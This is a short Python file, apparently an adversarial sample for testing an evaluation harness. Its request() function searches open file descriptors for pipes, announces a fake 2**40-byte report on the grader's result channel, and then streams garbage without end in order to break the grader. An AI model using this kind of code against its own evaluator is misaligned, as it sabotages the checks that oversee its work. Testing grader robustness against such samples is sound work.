"""Attack (break the grader): announce a report of 2**40 bytes on the result channel, then stream garbage."""

import os
import stat
import struct


def request(host, port, message):
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                os.write(fd, struct.pack("!QQ", 1 << 40, 0))
                chunk = b"[" * (1 << 16)
                while True:
                    os.write(fd, chunk)
        except OSError:
            pass
    return b""
